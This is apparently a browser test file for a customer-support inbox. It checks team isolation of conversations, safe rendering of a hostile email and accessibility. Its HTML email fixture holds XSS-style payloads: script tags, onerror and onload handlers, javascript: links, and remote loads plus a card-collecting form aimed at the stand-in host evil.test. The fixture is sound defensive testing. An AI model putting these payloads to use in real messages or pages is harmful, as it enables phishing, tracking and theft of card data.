"""What an agent must never see or run, in real Chromium on both deployments: a conversation of
another team (not in the list, the stream, search, nor by typing its address), and a customer's
hostile email (scripts, handlers, javascript: links, remote images, CSS tricks) shown inert, with
no dialog and no request to the remote host. And axe-core in the same browser: no serious or
critical violation on the sign-in page and on the inbox with a conversation open."""

from __future__ import annotations

import re
import time
from email.message import EmailMessage
from email.policy import SMTP
from email.utils import make_msgid
from pathlib import Path
from typing import Any

from tests.fakes.shop import Shop
from tests.support import wait_for
from tests.web.browser.desks import Desk, sign_in

EVIL = "evil.test"
HOSTILE_HTML = f"""<html><head>
<style>body {{ background: url(http://{EVIL}/bg.png) }} @import url(http://{EVIL}/x.css);
.x {{ behavior: url(http://{EVIL}/x.htc) }}</style>
<script>alert("script")</script>
<meta http-equiv="refresh" content="0;url=http://{EVIL}/refresh">
</head><body>
<p id="hello">Hola equip, <b>la comanda</b> no ha arribat</p>
<img src="http://{EVIL}/track.png" onerror="alert('onerror')" width="1" height="1">
<a id="js" href="javascript:alert('link')">clica aquí</a>
<a id="remote" href="http://{EVIL}/phish">el meu compte</a>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(http://{EVIL}/overlay.png)">x</div>
<svg onload="alert('svg')"><image href="http://{EVIL}/svg.png"/></svg>
<iframe src="http://{EVIL}/frame"></iframe>
<form action="http://{EVIL}/steal"><input name="card"><button>send</button></form>
<object data="http://{EVIL}/object"></object>
</body></html>"""


INVOICE = b"%PDF-1.4 la factura de la comanda 1042 %%EOF"


def hostile_mail() -> bytes:
    msg = EmailMessage(policy=SMTP)
    msg["From"] = "Núria Pons <nuria@example.cat>"
    msg["To"] = "support@shop.example"
    msg["Subject"] = "La meva comanda"
    msg["Message-ID"] = make_msgid(domain="example.cat")
    msg.set_content("Hola equip, la comanda no ha arribat")
    msg.add_alternative(HOSTILE_HTML, subtype="html")
    msg.add_attachment(INVOICE, maintype="application", subtype="pdf", filename="factura 1042.pdf")
    return msg.as_bytes()


def outside_requests(context: Any) -> list[str]:
    """Requests from any page or frame of the context to a host other than omnidesk's (aborted)."""
    seen: list[str] = []

    def record(route: Any) -> None:
        seen.append(route.request.url)
        route.abort()

    context.route(re.compile(r"^(?!https?://127\.0\.0\.1[:/]|data:|blob:|about:)"), record)
    return seen


def test_other_teams_conversation_never_shown(desk: Desk, new_page: Any) -> None:
    shop = Shop()
    channel = desk.api_channel(shop.url)
    north = desk.ok("POST", "/teams", json={"name": f"Nord {time.monotonic_ns()}"})
    south = desk.ok("POST", "/teams", json={"name": f"Sud {time.monotonic_ns()}"})
    ana = desk.agent("Ana Nord", teams=[north["id"]])
    bo = desk.agent("Bo Sud", teams=[south["id"]])
    desk.only_online(bo["id"])
    desk.inbound(channel, "Secret del sud: xiuxiueig", customer="sud-1", name="Sílvia Sud")
    theirs = wait_for(lambda: next((c for c in desk.ok("GET", "/conversations?limit=200")["items"]
                                    if c["contact"]["name"] == "Sílvia Sud" and c["assignee_id"]), None),
                      timeout=15, what="Sílvia's conversation routed")
    desk.ok("PATCH", f"/conversations/{theirs['id']}", json={"team_id": south["id"]})

    page = new_page()
    sign_in(page, ana["email"])
    # A stream opened without a place starts at the newest event: wait until it is open (its place
    # taken) before making the activity it must see, or a slow start would begin after it.
    page.evaluate("""() => new Promise((opened) => { window.seenEvents = [];
        const s = new EventSource('/api/v1/events');
        s.onopen = () => opened();
        s.onmessage = (e) => window.seenEvents.push(JSON.parse(e.data)); })""")

    # Activity on the south conversation, then on one Ana sees (the sentinel her stream must show).
    desk.inbound(channel, "Un altre secret del sud", customer="sud-1", name="Sílvia Sud")
    desk.ok("POST", f"/conversations/{theirs['id']}/messages", json={"text": "nota del sud", "private": True})
    desk.ok("POST", f"/conversations/{theirs['id']}/assign", json={"agent_id": bo["id"]})
    desk.ok("PATCH", f"/conversations/{theirs['id']}", json={"priority": 7})
    desk.only_online(ana["id"])
    desk.inbound(channel, "Hola nord", customer="nord-1", name="Nil Nord")
    page.locator(".conv-item", has_text="Nil Nord").wait_for()
    wait_for(lambda: any(e.get("type") == "message.created" for e in page.evaluate("window.seenEvents")),
             timeout=15, what="Ana's stream to show her own conversation's message")
    events = page.evaluate("window.seenEvents")
    assert [e for e in events if e.get("conversation_id") == theirs["id"]] == []

    for view in ("#/all", "#/unassigned", "#/mine"):
        page.goto(f"/{view}")
        page.locator("#conversations").wait_for(state="attached")
        page.locator(".conv-item, .empty:not([hidden])").first.wait_for()
        assert page.locator(f".conv-item[data-id='{theirs['id']}']").count() == 0
        assert "Sílvia" not in page.inner_text("#view")

    page.goto(f"/#/conversations/{theirs['id']}")
    page.locator("h1", has_text="Conversation not found").wait_for()
    assert "xiuxiueig" not in page.inner_text("body") and "Sílvia" not in page.inner_text("body")

    def search(words: str) -> None:
        page.fill("#search-box", words)
        page.press("#search-box", "Enter")
        page.locator("#view h1", has_text=f"“{words}”").wait_for()
        page.locator("#view [role=status]", has_text=re.compile("Nothing found|results")).wait_for()

    search("Hola nord")  # what she may see, she finds
    page.locator("#search-results .conv-item", has_text="Nil Nord").first.wait_for()
    for words in ("xiuxiueig", "Sílvia Sud", "secret del sud"):  # a message's word, the contact, a phrase
        search(words)
        assert page.locator(f"#search-results .conv-item[data-id='{theirs['id']}']").count() == 0
        assert "Sílvia" not in page.inner_text("#search-results")
    shop.close()


def test_hostile_email_is_inert(desk: Desk, new_page: Any, dovecot: Any, smtp_sink: Any) -> None:
    user, _ = dovecot.add_user()
    desk.ok("POST", "/channels", json={"kind": "email", "name": "Support mailbox", "config": {
        "address": "support@shop.example", **dovecot.imap_settings(user), **smtp_sink.settings()}})
    ana = desk.agent("Ana Mail")
    desk.only_online(ana["id"])
    page = new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    outside = outside_requests(page.context)
    sign_in(page, ana["email"])

    dovecot.append(user, hostile_mail())
    item = page.locator(".conv-item", has_text="Núria Pons")
    item.wait_for(timeout=45_000)  # IMAP IDLE, then the poll
    item.locator("a").click()
    frame_element = page.locator("iframe.msg-html")
    frame_element.wait_for()
    assert frame_element.get_attribute("sandbox") == ""
    assert "default-src 'none'" in frame_element.get_attribute("srcdoc")
    frame = page.frame_locator("iframe.msg-html")
    frame.locator("text=no ha arribat").wait_for()
    links = frame.locator("a")
    for n in range(links.count()):
        links.nth(n).dispatch_event("click")  # what a click does, whatever covers the link
    page.keyboard.press("Escape")
    # The agent's own document got nothing of the mail's markup (only text, and the sandboxed frame).
    assert page.locator("#view script, #view img, #view object, #view form[action*=evil]").count() == 0
    assert page.locator(f"[src*='{EVIL}'], [href*='{EVIL}']").count() == 0
    # Its attachment: a download link, the file's bytes as sent.
    link = page.locator(".attachments a", has_text="factura 1042.pdf")
    with page.expect_download() as download:
        link.click()
    assert Path(download.value.path()).read_bytes() == INVOICE
    assert download.value.suggested_filename == "factura 1042.pdf"
    page.reload()  # and once more from a fresh load, nothing fires
    page.locator("iframe.msg-html").wait_for()
    page.frame_locator("iframe.msg-html").locator("text=no ha arribat").wait_for()
    assert dialogs == []
    assert outside == []


def test_accessibility(desk: Desk, new_page: Any) -> None:
    from axe_playwright_python.sync_playwright import Axe

    axe = Axe()
    shop = Shop()
    channel = desk.api_channel(shop.url)
    ana = desk.agent("Ana Axe")
    desk.only_online(ana["id"])
    page = new_page()

    def serious() -> list[str]:
        violations = axe.run(page).response["violations"]
        return [f"{v['id']} ({v['impact']}): {[n['target'] for n in v['nodes']][:3]}" for v in violations
                if v["impact"] in ("serious", "critical")]

    page.goto("/")
    page.locator("#signin-form").wait_for()
    assert serious() == []

    sign_in(page, ana["email"])
    desk.inbound(channel, "Hola! Una pregunta sobre la talla", customer="axe-1", name="Clara Axe")
    page.locator(".conv-item", has_text="Clara Axe").wait_for()
    assert serious() == []
    page.locator(".conv-item a", has_text="Clara Axe").click()
    page.locator(".msg[data-direction=in]").wait_for()
    page.locator("#composer-text").wait_for()
    assert serious() == []
    page.keyboard.press("?")
    page.locator("#help").wait_for()
    assert serious() == []
    shop.close()
